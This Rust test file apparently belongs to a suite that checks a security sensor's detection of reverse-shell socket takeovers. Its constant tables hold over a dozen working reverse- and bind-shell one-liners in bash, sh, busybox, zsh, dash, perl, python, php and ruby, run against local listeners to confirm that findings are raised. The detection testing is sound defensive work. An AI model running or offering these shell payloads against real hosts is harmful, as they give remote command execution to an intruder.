//! Takeovers that have only one way of the streams on a socket, or each on another.

use std::fs;

use anyhow::{Context, Result, ensure};
use sensor_tests::{
    deadline::wait_for,
    lab::{INPUT, LOOP, Lab, REVERSE, Want},
    peer::{Listener, V4, call, free_port},
    process::Proc,
    suite::Case,
};

/// Shells that execute what comes and answer nowhere.
const SHELLS: [(&str, &str); 4] = [
    ("bash_stdin", "bash </dev/tcp/$H/$P"),
    ("sh_descriptor", "exec 5<>/dev/tcp/$H/$P; sh <&5 >/dev/null 2>&1; true"),
    ("busybox_ash", "exec 5<>/dev/tcp/$H/$P; exec busybox sh <&5 5<&-"),
    (
        "output_to_a_file",
        "exec 5<>/dev/tcp/$H/$P; zsh -f <&5 >answers 2>&1; true",
    ),
];

/// Interpreters, and a program for each that runs `id` into the file `proof`.
const INTERPRETERS: [(&str, &[&str], &str, &str); 4] = [
    (
        "perl",
        &["perl"],
        "exec perl </dev/tcp/$H/$P",
        "rename 'part', 'proof' if system('id > part') == 0;\n",
    ),
    (
        "python",
        &["python3"],
        "exec 5<>/dev/tcp/$H/$P; /usr/bin/python3 - <&5; true",
        "import os\nos.system('id > part')\nos.rename('part', 'proof')\n",
    ),
    (
        "php",
        &["php"],
        "php -n </dev/tcp/$H/$P; true",
        "<?php exec('id > part'); rename('part', 'proof');\n",
    ),
    (
        "ruby",
        &["ruby"],
        "exec ruby </dev/tcp/$H/$P",
        "system 'id > part'\nFile.rename 'part', 'proof'\n",
    ),
];

/// Loops that read a line, run it, and send its output back.
const LOOPS: [(&str, &[&str], &str); 10] = [
    (
        "bash_eval",
        &["bash"],
        r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" >&5 2>&5; done"#,
    ),
    (
        "bash_eval_without_stderr",
        &["bash"],
        r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" >&5; done"#,
    ),
    // The form of the cheat sheets: the loop reads what `cat` passes on.
    (
        "bash_cat_and_while",
        &["bash"],
        "exec 5<>/dev/tcp/$H/$P; cat <&5 | while read line; do $line 2>&5 >&5; done",
    ),
    (
        "dash_eval",
        &["dash"],
        r#"exec 5<>/dev/tcp/$H/$P; exec dash -c 'while read l <&5; do eval "$l" >&5 2>&5; done'"#,
    ),
    (
        "perl_system",
        &["perl"],
        r#"exec perl -MIO::Socket -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}"); open STDOUT,">&",$s;
while(<$s>){ chomp; system $_ }'"#,
    ),
    (
        "python_run",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import socket,os,subprocess
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
for line in s.makefile(): subprocess.run(line,shell=True,stdin=subprocess.DEVNULL,stdout=s,stderr=s)'"#,
    ),
    // The first thread ends and leaves the work, and what is open, to another one.
    (
        "python_without_its_first_thread",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import ctypes,os,socket,subprocess,threading
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
def work():
  for l in s.makefile(): subprocess.run(l,shell=True,stdin=subprocess.DEVNULL,stdout=s,stderr=s)
  os._exit(0)
threading.Thread(target=work).start(); ctypes.CDLL(None).pthread_exit(None)'"#,
    ),
    (
        "ruby_system",
        &["ruby"],
        r#"exec ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); while l=s.gets; system(l,[:out,:err]=>s); end'"#,
    ),
    // Input comes from the connection too, but it is the loop that reads it.
    (
        "bash_eval_all_streams",
        &["bash"],
        r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" <&5 >&5 2>&5; done"#,
    ),
    (
        "perl_system_all_streams",
        &["perl"],
        r#"perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"$ENV{H}:$ENV{P}");
STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"#,
    ),
];

/// The proof that a command of the peer was executed.
fn proof(lab: &Lab<'_>) -> Result<String> {
    let proof = wait_for("the proof that a command was executed", || {
        Ok(fs::read_to_string(lab.path("proof")).ok())
    })?;
    ensure!(proof.contains("uid="), "no proof: {proof}");
    Ok(proof)
}

fn connect(lab: &Lab<'_>, script: &str) -> Result<Listener> {
    let listener = Listener::tcp(V4)?;
    lab.bash(script, &[("H", "127.0.0.1"), ("P", &listener.port()?.to_string())])?;
    Ok(listener)
}

fn shell(lab: &Lab<'_>, script: &str) -> Result<()> {
    let mut peer = connect(lab, script)?.accept()?;
    peer.send("(id; echo pid=$$.) >part && mv part proof\n")?;
    let proof = proof(lab)?;
    let pid = proof
        .split("pid=")
        .nth(1)
        .and_then(|rest| rest.split('.').next()?.parse().ok());
    let shell = Proc::of(pid.context("no process id")?)?;
    let finding = lab.finding(peer.ends(), INPUT)?;
    lab.same(&finding, &shell)?;
    peer.send("exit\n")?;
    lab.ended(&finding)?;
    Ok(())
}

fn interpreter(lab: &Lab<'_>, script: &str, program: &str) -> Result<()> {
    let mut peer = connect(lab, script)?.accept()?;
    peer.send(program)?;
    peer.finish()?;
    proof(lab)?;
    let finding = lab.finding(peer.ends(), INPUT)?;
    lab.ended(&finding)?;
    Ok(())
}

/// Types into a loop; `runner` must be named by the finding, as it is not a shell on the socket itself.
fn command_loop(lab: &Lab<'_>, script: &str) -> Result<()> {
    let mut peer = connect(lab, script)?.accept()?;
    peer.id()?;
    let finding = lab.finding(peer.ends(), LOOP)?;
    let processes = finding.processes()?;
    let first = processes.first().context("no process")?;
    // What `id` printed has to be `id`'s: the first command, whose parent follows as an ancestor.
    ensure!(
        processes.iter().any(|process| process.pid == first.parent),
        "the loop is not among the processes: {finding}"
    );
    peer.id()?;
    peer.id()?;
    drop(peer);
    let last = lab.ended(&finding)?;
    ensure!(
        last.number("commandCount")? >= 3,
        "three commands, and the finding says: {last}"
    );
    Ok(())
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, script) in SHELLS {
        cases.push(Case::new(
            format!("input_only::{name}"),
            &["bash", "busybox", "zsh"],
            move |lab| shell(lab, script),
        ));
    }
    for (name, tools, script, program) in INTERPRETERS {
        cases.push(Case::new(format!("input_only::{name}"), tools, move |lab| {
            interpreter(lab, script, program)
        }));
    }
    for (name, tools, script) in LOOPS {
        cases.push(Case::new(format!("command_loop::{name}"), tools, move |lab| {
            command_loop(lab, script)
        }));
    }
    cases.push(Case::new("command_loop::python_accepts", &["python3"], |lab| {
        let port = free_port(V4)?;
        let script = r#"exec /usr/bin/python3 -c 'import socket,os,subprocess
l=socket.create_server(("127.0.0.1",int(os.environ["P"]))); s,_=l.accept()
for line in s.makefile(): subprocess.run(line,shell=True,stdin=subprocess.DEVNULL,stdout=s,stderr=s)'"#;
        lab.bash(script, &[("P", &port.to_string())])?;
        let mut peer = call((V4, port).into())?;
        peer.id()?;
        let finding = lab.finding(
            peer.ends(),
            Want {
                direction: "inbound",
                ..LOOP
            },
        )?;
        drop(peer);
        lab.ended(&finding)?;
        Ok(())
    }));
    // One connection brings the commands, another takes the answers: one takeover of two sockets.
    cases.push(Case::new("two_sockets::one_for_each_way", &["bash"], |lab| {
        let (commands, answers) = (Listener::tcp(V4)?, Listener::tcp(V4)?);
        let script = "exec 5<>/dev/tcp/127.0.0.1/$P 6<>/dev/tcp/127.0.0.1/$Q; sh <&5 >&6 2>&6; true";
        lab.bash(
            script,
            &[
                ("P", &commands.port()?.to_string()),
                ("Q", &answers.port()?.to_string()),
            ],
        )?;
        let (mut keyboard, mut screen) = (commands.accept()?, answers.accept()?);
        keyboard.send("id\n")?;
        screen.read_until("uid=")?;
        let finding = lab.finding(keyboard.ends(), REVERSE)?;
        ensure!(
            finding.has(screen.ends()),
            "the answers' connection is missing: {finding}"
        );
        keyboard.send("exit\n")?;
        lab.ended(&finding)?;
        Ok(())
    }));
    cases
}
